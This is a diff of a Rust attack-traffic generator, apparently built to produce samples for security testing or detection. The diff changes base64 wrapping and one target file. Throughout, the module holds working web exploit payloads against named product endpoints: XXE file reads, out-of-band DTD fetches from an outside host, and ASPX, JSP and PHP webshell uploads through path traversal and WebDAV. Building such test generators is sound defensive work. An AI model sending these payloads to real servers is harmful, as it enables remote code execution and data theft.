@@ -8,7 +8,7 @@ use super::super::encode::Encoding;
 use super::super::place::Place;
 use super::super::rng::Rng;
 use super::super::wire::{Part, Wire};
-use super::tools::{Shot, callback, form, json, parts, query, sent, xml};
+use super::tools::{Shot, callback, form, in_base64, json, parts, query, sent, xml};
 
 pub(super) const ATTACKS: &[AttackGrammar] = &[
     request("xxe-products", AttackClass::Xxe, 34, entities),
@@ -24,7 +24,7 @@ fn entities(rng: &mut Rng) -> Shot {
         "file:///etc/hosts",
         "file:///c:/windows/win.ini",
         "file:///proc/version",
-        "file:///opt/zimbra/conf/localconfig.xml",
+        "file:///etc/issue",
     ]);
     let declared = format!("<!DOCTYPE {word} [<!ELEMENT {word} ANY><!ENTITY {name} SYSTEM \"{file}\">]>");
     let away_only = format!("<!DOCTYPE {word} [<!ENTITY % {name} SYSTEM \"http://{away}/{word}.dtd\">%{name};]>");
@@ -50,14 +50,14 @@ fn entities(rng: &mut Rng) -> Shot {
             ),
             rng,
         ),
-        3 => form(
+        3 => in_base64(form(
             "/dana-ws/saml20.ws",
             format!(
                 "SAMLRequest={}",
                 codec::form(codec::base64(format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>{away_only}<r></r>")))
             ),
             rng,
-        ),
+        )),
         4 => json(
             "/rest/V1/guest-carts/1/estimate-shipping-methods",
             format!(
@@ -149,7 +149,7 @@ fn entities(rng: &mut Rng) -> Shot {
         ),
         15 => xml(
             "/xmlpserver/ReportTemplateService.xls",
-            format!("<!DOCTYPE soap:envelope PUBLIC \"-//B/A/EN\" \"http://{away}/{word}\">"),
+            format!("<!DOCTYPE soap:envelope PUBLIC \"-//B/A/EN\" \"http://{away}/{word}\"><a/>"),
             rng,
         ),
         _ => parts(
@@ -375,12 +375,12 @@ fn raw(rng: &mut Rng) -> Shot {
         0 => (sent(Wire::new("PUT", format!("/{word}.jsp{}", rng.pick(&["/", "%20", "::$DATA"]))).body("application/octet-stream", java), rng), Place::Body, Encoding::Plain),
         1 => (sent(Wire::new("PUT", format!("/fileserver/{word}.txt")).body("", java), rng), Place::Body, Encoding::Plain),
         2 => (sent(Wire::new("MOVE", format!("/fileserver/{word}.txt")).header("Destination", format!("file:///opt/activemq/webapps/api/{word}.jsp")), rng), Place::Header, Encoding::Plain),
-        3 => json("/api/attach/saveBase64", format!("{{\"fileName\":\"{word}.aspx\",\"fileData\":\"{}\"}}", codec::base64("<%@ Page Language=\"C#\"%><%System.Diagnostics.Process.Start(Request[\"c\"]);%>")), rng),
-        4 => form("/servlet/uploadAttachmentServlet", format!("fileName=../../{word}.jsp&content={}", codec::form(codec::base64(java))), rng),
+        3 => in_base64(json("/api/attach/saveBase64", format!("{{\"fileName\":\"{word}.aspx\",\"fileData\":\"{}\"}}", codec::base64("<%@ Page Language=\"C#\"%><%System.Diagnostics.Process.Start(Request[\"c\"]);%>")), rng)),
+        4 => in_base64(form("/servlet/uploadAttachmentServlet", format!("fileName=../../{word}.jsp&content={}", codec::form(codec::base64(java))), rng)),
         5 => (sent(Wire::post(format!("/upload/index.php?file={word}.php&mode=raw"), "application/octet-stream", script), rng), Place::Body, Encoding::Plain),
-        6 => json("/mobile/upload", format!("{{\"img\":\"data:image/php;base64,{}\",\"name\":\"{word}\"}}", codec::base64(script)), rng),
+        6 => in_base64(json("/mobile/upload", format!("{{\"img\":\"data:image/php;base64,{}\",\"name\":\"{word}\"}}", codec::base64(script)), rng)),
         7 => form("/e/admin/template/save", format!("file={word}.php&content={}", codec::form(script)), rng),
-        8 => xml("/uapws/service/nc.uap.oba.update.IUpdateService", format!("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body><getResult><string>{}</string><name>../../{word}.jsp</name></getResult></soapenv:Body></soapenv:Envelope>", codec::base64(java)), rng),
+        8 => in_base64(xml("/uapws/service/nc.uap.oba.update.IUpdateService", format!("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body><getResult><string>{}</string><name>../../{word}.jsp</name></getResult></soapenv:Body></soapenv:Envelope>", codec::base64(java)), rng)),
         9 => json("/solr/admin/configs?action=UPLOAD", format!("{{\"name\":\"{word}\",\"filename\":\"../../webapp/{word}.jsp\",\"content\":{}}}", codec::json(java)), rng),
         10 => (sent(Wire::post(format!("/servlet/FileReceiveServlet?n={n}"), "", [b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16\x60\xd1\x03\x00\x02F\x00\x0aloadFactorI\x00\x09thresholdxp?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10\x00\x00\x00\x02t\x00\x09FILE_NAMEt\x00".as_slice(), &[word.len() as u8 + 4], word.as_bytes(), b".jspt\x00\x10TARGET_FILE_PATHt\x00\x10./webapps/nc_webx", java.as_bytes()].concat()), rng), Place::Body, Encoding::Plain),
         11 => (sent(Wire::new("PUT", format!("/webdav/{word}.asp;.jpg")).body("image/jpeg", format!("<%eval request(\"{word}\")%>")), rng), Place::Body, Encoding::Plain),
